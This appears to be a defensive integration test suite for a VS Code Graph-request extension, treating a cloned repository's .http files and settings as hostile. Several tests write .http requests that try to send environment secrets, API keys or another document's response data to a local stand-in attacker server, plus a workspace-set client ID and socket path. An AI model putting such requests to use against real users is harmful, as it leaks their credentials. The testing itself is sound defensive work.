// Issue 11, in the editor: a cloned repository's .http files and settings, and the servers they name, are
// treated as hostile. Each test plays the attacker (a .http file, a settings value, a server) against the
// real extension host and the sandbox tenant.
import * as assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { Question } from '../../src/vscode/prompts';
import type { ExtensionTestApi } from '../../src/vscode/session/testApi';
import { useSandbox } from './auth.test';
import { closeAllEditors, newestResponse } from './helpers';

const GROUPS_PATH = 'beta/onPremisesPublishingProfiles/applicationProxy/connectorGroups';
const JWT = /eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\./;

const config = () => vscode.workspace.getConfiguration('graphConnectorGroups');

async function httpDocument(content: string): Promise<vscode.TextDocument> {
  const doc = await vscode.workspace.openTextDocument({ language: 'http', content });
  await vscode.window.showTextDocument(doc);
  return doc;
}

const send = (doc: vscode.TextDocument, index = 0) => vscode.commands.executeCommand('graphConnectorGroups.sendRequest', doc.uri, index);


/** A server that records what reaches it: the attacker's end. */
async function attackerServer(): Promise<{ server: Server; origin: string; seen: IncomingMessage[] }> {
  const seen: IncomingMessage[] = [];
  const server = createServer((req, res) => { seen.push(req); res.setHeader('content-type', 'application/json'); res.end('{"ok":true}'); });
  await new Promise<void>(r => server.listen(0, '127.0.0.1', () => r()));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

async function until<T>(what: string, get: () => Promise<T | undefined> | T | undefined, ms = 10_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const value = await get();
    if (value !== undefined) return value;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise(r => setTimeout(r, 100));
  }
}

/** Files the transport spilled in this process (the extension host is this process). */
function spilledFiles(): string[] {
  const mine = `response-${process.pid}-`;
  return readdirSync(tmpdir()).filter(d => d.startsWith('graph-connector-groups-')).flatMap(d => {
    try { return readdirSync(join(tmpdir(), d)).filter(f => f.startsWith(mine)); } catch { return []; }
  });
}

suite('hostile repositories and servers (issue 11)', function () {
  this.timeout(60_000);
  let api: ExtensionTestApi;
  const questions: Question[] = [];
  let answer: (q: Question) => string | undefined = () => undefined;

  suiteSetup(async () => {
    api = await useSandbox();
    api.answerPrompts(q => { questions.push(q); return answer(q); });
    await vscode.commands.executeCommand('graphConnectorGroups.signIn', { method: 'deviceCode' });
  });
  setup(() => { questions.length = 0; answer = () => undefined; });
  suiteTeardown(async () => {
    api.answerPrompts(undefined);
    await closeAllEditors();
  });

  test('the response view opens for /beta/%zz (no URIError after the request was sent)', async () => {
    const before = newestResponse();
    const doc = await httpDocument('GET /beta/%zz\n');
    await send(doc);
    const shown = newestResponse();
    assert.ok(shown && shown !== before, 'a response document opened');
    assert.match(shown.getText(), /^\/\/ \d{3} /);
  });

  test('requestTimeoutSeconds: 9999999 from the workspace does not make every request time out at once', async () => {
    await config().update('requestTimeoutSeconds', 9999999, vscode.ConfigurationTarget.Workspace);
    try {
      const doc = await httpDocument(`GET /${GROUPS_PATH}?$top=1\n`);
      await send(doc);
      assert.equal(api.history()[0].status, 200, 'answered, not timed out in 1 ms');
    } finally {
      await config().update('requestTimeoutSeconds', undefined, vscode.ConfigurationTarget.Workspace);
    }
  });

  test('a document cannot read another document\'s named responses', async () => {
    const attacker = await attackerServer();
    try {
      const first = await httpDocument(`# @name groups\nGET /${GROUPS_PATH}?$top=1\n`);
      await send(first);
      assert.equal(api.history()[0].status, 200);
      const count = api.history().length;
      const other = await httpDocument(`GET ${attacker.origin}/c?id={{groups.response.body.$.value[0].id}}\n`);
      await send(other);
      assert.equal(attacker.seen.length, 0, 'nothing reached the other host');
      assert.equal(api.history().length, count, 'nothing was sent');
      // The document that made the response still reads it (and sends to Graph without a question).
      const same = await httpDocument(`# @name groups\nGET /${GROUPS_PATH}?$top=1\n\n###\nGET /${GROUPS_PATH}/{{groups.response.body.$.value[0].id}}\n`);
      await send(same, 0);
      await send(same, 1);
      assert.equal(api.history()[0].status, 200);
      assert.equal(questions.length, 0, 'no question for Graph');
    } finally {
      attacker.server.close();
    }
  });

  test('values from $processEnv and the user\'s variable sets go to another host only after a question, asked once per host', async () => {
    process.env.GCG_HOSTILE_TEST_SECRET = 'env-secret-4711';
    await config().update('environmentVariables', { $shared: { apiKey: 'set-secret-0815' } }, vscode.ConfigurationTarget.Global);
    const attacker = await attackerServer();
    try {
      const doc = await httpDocument(`GET ${attacker.origin}/c?k={{apiKey}}\nX-Secret: {{$processEnv GCG_HOSTILE_TEST_SECRET}}\n`);
      answer = () => undefined; // dismissed
      await send(doc);
      assert.equal(attacker.seen.length, 0, 'not sent without a yes');
      assert.equal(questions.length, 1);
      assert.equal(questions[0].modal, true);
      const asked = `${questions[0].message}\n${questions[0].detail}`;
      assert.ok(asked.includes(attacker.origin.replace('http://', '')), asked);
      assert.match(asked, /\$processEnv/);
      assert.match(asked, /variable set/);

      answer = q => q.actions[0];
      await send(doc);
      assert.equal(attacker.seen.length, 1, 'sent after the yes');
      assert.equal(attacker.seen[0].headers['x-secret'], 'env-secret-4711');
      await send(doc);
      assert.equal(attacker.seen.length, 2);
      assert.equal(questions.length, 2, 'asked once per host: the yes is remembered');

      // Nothing from the machine or the user's settings: no question.
      const plain = await httpDocument(`GET ${attacker.origin}/plain\n`);
      await send(plain);
      assert.equal(attacker.seen.length, 3);
      assert.equal(questions.length, 2);
    } finally {
      delete process.env.GCG_HOSTILE_TEST_SECRET;
      await config().update('environmentVariables', undefined, vscode.ConfigurationTarget.Global);
      attacker.server.close();
    }
  });

  test('"Load next page" to another host asks again before headers with a variable-set value go there', async () => {
    await config().update('environmentVariables', { $shared: { apiKey: 'set-secret-0815' } }, vscode.ConfigurationTarget.Global);
    const second = await attackerServer();
    const first = createServer((_req, res) => { res.setHeader('content-type', 'application/json'); res.end(JSON.stringify({ value: [], '@odata.nextLink': `${second.origin}/page2` })); });
    await new Promise<void>(r => first.listen(0, '127.0.0.1', () => r()));
    const firstHost = `127.0.0.1:${(first.address() as AddressInfo).port}`;
    try {
      answer = q => (q.message.includes(firstHost) ? q.actions[0] : undefined);
      const doc = await httpDocument(`GET http://${firstHost}/list\nX-Key: {{apiKey}}\n`);
      await send(doc);
      await vscode.commands.executeCommand('graphConnectorGroups.loadNextPage', newestResponse()!.uri);
      assert.equal(second.seen.length, 0, 'the next page was not fetched without a yes');
      assert.ok(questions.some(q => q.message.includes(second.origin.replace('http://', ''))), questions.map(q => q.message).join(' | '));
    } finally {
      await config().update('environmentVariables', undefined, vscode.ConfigurationTarget.Global);
      first.close();
      second.server.close();
    }
  });

  test('cURL "include token" exports the resolved absolute URL, not the URL as typed', async () => {
    const endpoint = api.sandbox()!.graphEndpoint;
    for (const typed of [GROUPS_PATH, `graph.microsoft.com/${GROUPS_PATH}`]) {
      await vscode.env.clipboard.writeText('');
      answer = q => q.actions.find(a => /with token|include token/i.test(a));
      const doc = await httpDocument(`GET ${typed}\n`);
      await vscode.commands.executeCommand('graphConnectorGroups.copyRequestAsCurl', doc.uri, 0);
      const curl = await until('the cURL with the token', async () => {
        const text = await vscode.env.clipboard.readText();
        return JWT.test(text) ? text : undefined;
      });
      assert.ok(curl.includes(` '${endpoint}/${GROUPS_PATH}'`), `${typed}: ${curl.replace(JWT, '<jwt>.')}`);
    }
  });

  test('a large tree page spilled to a temp file is deleted once read', async () => {
    const before = spilledFiles().length;
    api.sandbox()!.setFaults([{ kind: 'largeBody', sizeMb: 6, times: 1, path: 'connectorGroups$' }]);
    try {
      await vscode.commands.executeCommand('graphConnectorGroups.refreshTree', { expand: 2 });
    } finally {
      api.sandbox()!.setFaults([]);
    }
    assert.ok(spilledFiles().length <= before, `left behind: ${spilledFiles().join(', ')}`);
  });

  test('clientId and tenant set by a workspace are confirmed before signing in with them', async () => {
    await config().update('environment', 'cloud', vscode.ConfigurationTarget.Workspace);
    await config().update('clientId', '0bad0bad-aaaa-4bbb-8ccc-00000000beef', vscode.ConfigurationTarget.Workspace);
    try {
      answer = () => undefined; // declined
      const result = await vscode.commands.executeCommand('graphConnectorGroups.signIn', { method: 'deviceCode' });
      assert.equal(result, undefined);
      assert.equal(questions.length, 1, 'asked before signing in');
      assert.equal(questions[0].modal, true);
      assert.match(`${questions[0].message}\n${questions[0].detail}`, /clientId[\s\S]*0bad0bad-aaaa-4bbb-8ccc-00000000beef/);
    } finally {
      await config().update('clientId', undefined, vscode.ConfigurationTarget.Workspace);
      await config().update('environment', 'sandbox', vscode.ConfigurationTarget.Workspace);
    }
  });

  test('sandbox.port: "/path" from the workspace does not make a Unix socket there', async function () {
    this.timeout(90_000);
    const socket = join(mkdtempSync(join(tmpdir(), 'gcg-hostile-')), 'sandbox.sock');
    await config().update('sandbox.port', socket, vscode.ConfigurationTarget.Workspace);
    try {
      await vscode.commands.executeCommand('graphConnectorGroups.signIn', { method: 'deviceCode' });
      const doc = await httpDocument(`GET /${GROUPS_PATH}?$top=1\n`);
      await send(doc);
      assert.equal(existsSync(socket), false, 'no socket file');
      assert.match(api.sandbox()!.graphEndpoint, /^http:\/\/127\.0\.0\.1:\d+/);
      assert.equal(api.history()[0].status, 200);
    } finally {
      await config().update('sandbox.port', undefined, vscode.ConfigurationTarget.Workspace);
      await vscode.commands.executeCommand('graphConnectorGroups.signIn', { method: 'deviceCode' });
    }
  });
});
